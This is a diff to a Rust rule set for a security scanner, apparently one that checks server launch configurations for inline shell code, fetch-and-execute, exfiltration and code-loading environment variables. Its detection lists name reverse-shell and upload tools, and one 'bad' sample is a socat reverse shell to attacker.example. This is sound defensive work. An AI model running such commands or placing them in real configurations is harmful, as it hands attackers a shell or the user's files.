@@ -105,7 +105,7 @@ rules! {
         good: "# agents/fixer.md\n---\npermission:\n  bash:\n    \"git status\": allow\n    \"*\": ask\n---",
     }
     "STDIO-001" High {
-        summary: "A shell, interpreter or tool given code inline: `sh -c`, `cmd /c`, `powershell -Command`, `python -c`, `node -e`, `perl -E`, `lua`/`Rscript`/`osascript -e`, `npx -c`, `env -S`, `script -c`, `expect -c`, an awk program that runs commands, `find -exec`, `xargs sh`, `vim -c`, `git -c` settings that run programs, ssh's `ProxyCommand`, and their kind.",
+        summary: "A shell, interpreter or tool given code inline: `sh -c`, `cmd /c` with cmd metacharacters (a plain argv after `/c` is checked as the launch itself), `powershell -Command`, `python -c`, `node -e` (also started by a launcher: `npx node@20 -e`, `tsx`/`zx -e`), a `data:` script, `docker run --entrypoint sh IMAGE -c`, `rundll32`/`mshta javascript:`, `sed` `e`, `perl -E`, `lua`/`Rscript`/`osascript -e`, `npx -c`, `env -S`, `script -c`, `expect -c`, an awk program that runs commands, `find -exec`, `xargs sh`, `vim -c`, `git -c` settings that run programs, ssh's `ProxyCommand`, and their kind.",
         why: "Inline code hides what actually runs behind one opaque string, the classic carrier of injected commands.",
         fix: "Launch the server's executable or package directly, with its arguments as separate array elements.",
         bad: "command = \"bash\"\nargs = [\"-c\", \"npx -y server@1.0.0\"]",
@@ -119,7 +119,7 @@ rules! {
         good: "args = [\"server.js\", \"--allowed-origins\", \"https://a.example;https://b.example\"]",
     }
     "STDIO-003" Block {
-        summary: "Fetch-and-execute: `curl`/`wget` piped to a shell, `bash <(curl …)`, or an interpreter given an http(s) script.",
+        summary: "Fetch-and-execute: `curl`/`wget` piped to a shell, `bash <(curl …)`, an interpreter given an http(s) script or one on a network share, or `mshta URL`/`regsvr32 /i:URL`.",
         why: "Code downloaded at launch is whatever the server returns that day: unreviewed, unpinned and unverifiable.",
         fix: "Install the server from a registry at an exact version, or ship the script in the bundle.",
         bad: "command = \"deno\"\nargs = [\"run\", \"https://example.com/server.ts\"]",
@@ -182,7 +182,7 @@ rules! {
         good: "args = [\"--rules\", \"config/rules.json\"]",
     }
     "STDIO-012" Block {
-        summary: "Exfiltration or remote control: a reverse shell (`nc -e`, `ncat --sh-exec`, `socat … EXEC:`/`SYSTEM:`), an upload of local files (`curl -T`, `curl -d @FILE`, `wget --post-file`), a copy to or from another machine (`rsync`/`scp`/`sftp` with `host:path` or `rsync://`), a container engine or cluster elsewhere (`docker -H tcp://…`, `DOCKER_HOST=tcp://…`, `kubectl exec`/`cp`), a tunnel (`ssh -R`, `ngrok`, `cloudflared tunnel`).",
+        summary: "Exfiltration or remote control: a reverse shell (`nc -e`, `ncat --sh-exec`, `socat … EXEC:`/`SYSTEM:`), an upload of local files (`curl -T`, `curl -d @FILE`, `wget --post-file`), a copy to or from another machine (`rsync`/`scp`/`sftp` with `host:path` or `rsync://`), a container engine or cluster elsewhere (`docker -H`/`DOCKER_HOST` other than a local socket, `--context`/`DOCKER_CONTEXT` other than a local engine's, `kubectl exec`/`cp`), a tunnel (`ssh -R`, `ngrok`, `cloudflared tunnel`).",
         why: "Each hands the user's files, or a shell on the machine, to another machine; no local server launch needs that.",
         fix: "Remove it. A server that works with remote data connects through its own protocol; a remote server is configured by URL.",
         bad: "command = \"socat\"\nargs = [\"TCP:attacker.example:4444\", \"EXEC:/bin/sh\"]",
@@ -203,11 +203,11 @@ rules! {
         good: "env.DATABASE_URL = { template = \"postgresql://app:{env:DB_PASSWORD}@db.example.com/app\", secret = true }",
     }
     "ENV-002" Block {
-        summary: "Variables that make the program, or one it starts, run or load other code: loaders (LD_*, DYLD_*, GCONV_PATH), interpreter startup and paths (NODE_OPTIONS, PYTHONPATH, PYTHONSTARTUP, PYTHONINSPECT, PERL5OPT, PERL5LIB, RUBYOPT, BASH_ENV, ENV, ZDOTDIR, PROMPT_COMMAND, IFS), runtime options (JAVA_TOOL_OPTIONS, _JAVA_OPTIONS, MAVEN_OPTS, …), profilers and hooks (DOTNET_STARTUP_HOOKS, CORECLR_*, COR_*), programs others start (GIT_SSH_COMMAND, GIT_SSH, GIT_EXEC_PATH, GIT_CONFIG_*, *_ASKPASS, SHELL, npm_config_script_shell, BROWSER, EDITOR/VISUAL/PAGER other than `cat`/`less`/`more`), PATH and HOME.",
+        summary: "Variables that make the program, or one it starts, run or load other code: loaders (LD_*, DYLD_*, GCONV_PATH), interpreter startup and paths (NODE_OPTIONS, PYTHONPATH, PYTHONSTARTUP, PYTHONINSPECT, PERL5OPT, PERL5LIB, RUBYOPT, BASH_ENV, ENV, ZDOTDIR, PROMPT_COMMAND, IFS; ENV/BASH_ENV only when the value could be a file), runtime options (NODE_OPTIONS, JAVA_TOOL_OPTIONS, _JAVA_OPTIONS, MAVEN_OPTS, … unless every option only sizes memory, picks a collector or tunes warnings), profilers and hooks (DOTNET_STARTUP_HOOKS, CORECLR_*, COR_*), programs others start (GIT_SSH_COMMAND, GIT_SSH, GIT_EXEC_PATH, GIT_CONFIG_*, *_ASKPASS, SHELL, npm_config_script_shell, BROWSER other than `none`, EDITOR/VISUAL/PAGER other than `cat`/`less`/`more`), PATH and HOME.",
         why: "These make the launched program load code of the bundle's choosing, whatever command was reviewed.",
         fix: "Remove the variable; configure the server through its own options.",
         bad: "env.NODE_OPTIONS = \"--require ./hook.js\"",
-        good: "env.LOG_LEVEL = \"info\"",
+        good: "env.NODE_OPTIONS = \"--max-old-space-size=4096\"",
     }
     "ENV-003" High {
         summary: "TLS verification off or traffic redirected: NODE_TLS_REJECT_UNAUTHORIZED=0, PYTHONHTTPSVERIFY=0, *_CA_BUNDLE, NODE_EXTRA_CA_CERTS, HTTP(S)_PROXY, ALL_PROXY, vendor *_BASE_URL, and package-manager equivalents (npm_config_proxy, npm_config_strict_ssl=false, GIT_SSL_NO_VERIFY, PIP_TRUSTED_HOST, …).",
